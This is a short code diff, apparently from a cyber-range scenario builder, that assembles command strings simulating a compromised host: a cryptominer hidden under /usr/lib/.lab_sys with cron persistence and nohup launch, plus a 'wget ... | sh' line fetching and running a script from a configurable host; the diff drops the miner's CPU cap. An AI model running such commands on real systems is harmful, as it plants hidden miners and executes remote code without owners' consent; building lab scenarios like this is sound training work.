@@ -24,7 +24,7 @@ const parts = await Promise.all(
 )
 
 const miner = cronMiner('/usr/lib/.lab_sys', 'lab_netdns', '/etc/cron.d/lab-netdns')
-const start = `${miner.payload} -B -o stratum+tcp://pool.range.test:${world.poolPort} -u ${fakeWallet} -p x --cpu 40`
+const start = `${miner.payload} -B -o stratum+tcp://pool.range.test:${world.poolPort} -u ${fakeWallet} -p x`
 const fetch = `wget -q -O- http://${world.downloads}/lab_update.sh | sh >/dev/null 2>&1`
 
 const rcLine = `nohup ${start} >/dev/null 2>&1 &`
